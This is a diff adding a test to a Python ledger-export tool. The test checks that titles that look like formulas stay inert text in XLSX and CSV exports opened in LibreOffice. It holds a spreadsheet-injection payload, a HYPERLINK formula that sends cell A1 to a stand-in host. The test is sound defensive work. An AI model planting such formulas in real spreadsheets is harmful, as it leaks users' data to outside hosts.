@@ -91,3 +91,47 @@ def test_a_long_report_fills_whole_pages_of_22_lines(reports):
     assert pdf.pages >= 3
     full = [len([line for line in pdf.lines(p) if line[0].y1 < pdf.height - 35 * MM]) for p in range(2, pdf.pages)]
     assert 22 in full, full
+
+
+INJECTION = '=HYPERLINK("http://example.invalid/?x="&A1,"点击查看")'
+
+
+def test_ledger_opened_in_libreoffice_shows_titles_dates_and_text_not_formulas(tmp_path):
+    import csv
+
+    soffice()
+    db = tmp_path / "db"
+    assert main(["init", "--db", str(db), "--examples"]) == 0
+    rows = tmp_path / "in.csv"
+    with open(rows, "w", encoding="utf-8", newline="") as fh:
+        csv.writer(fh).writerows([["协作组", "活动名称", "活动形式", "开始", "结束"],
+                                  ["第一协作组", INJECTION, "协同工作指导", "2026-09-03", "2026-09-03"],
+                                  ["第二协作组", "+1+2", "协同工作指导", "2026-09-04", "2026-09-04"]])
+    assert main(["import", str(rows), "--db", str(db), "--org", "tjpu", "--kind", "activity"]) == 0
+    ledger = tmp_path / "ledger.xlsx"
+    assert main(["export", "--db", str(db), "--org", "tjpu", "--format", "xlsx", "--as-of", AS_OF, "--period", "2026Q3",
+                 "--out", str(ledger)]) == 0
+    out = tmp_path / "calc"
+    # every sheet as shown on screen (LibreOffice writes one csv per sheet)
+    convert(ledger, "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true,false,false,-1", out)
+    sheet = list(csv.reader(open(out / "ledger-协作活动.csv", encoding="utf-8")))
+    assert sheet[0][0] == "天津工业大学 2026年第三季度 协作活动台账" and sheet[1][:3] == ["序号", "协作组", "活动名称"]
+    titles = {row[2]: row for row in sheet[2:]}
+    assert INJECTION in titles and "+1+2" in titles and "点击查看" not in titles and "3" not in titles
+    assert titles[INJECTION][5] == "2026年9月3日"  # a date cell in a Chinese date format, not text
+    assert [row[0] for row in sheet[2:]] == [str(n) for n in range(1, len(sheet) - 1)]  # 序号
+    # the csv export: LibreOffice opens the title as text too
+    flat = tmp_path / "activity.csv"
+    assert main(["export", "--db", str(db), "--org", "tjpu", "--format", "csv", "--kind", "activity", "--out", str(flat)]) == 0
+    from openpyxl import load_workbook
+
+    book = load_workbook(convert(flat, "xlsx", tmp_path / "calc2"))
+    cells = [c for row in book.active.iter_rows() for c in row if c.value and "HYPERLINK" in str(c.value)]
+    assert cells and all(c.data_type != "f" for c in cells)
+    # and our own import gives back the title as it was written
+    fresh = tmp_path / "fresh"
+    assert main(["init", "--db", str(fresh), "--examples"]) == 0
+    assert main(["import", str(flat), "--db", str(fresh), "--org", "tjpu", "--kind", "activity"]) == 0
+    from coordtui.store import Store
+
+    assert INJECTION in {d["title"] for d in Store(fresh).query("tjpu", "activity")}
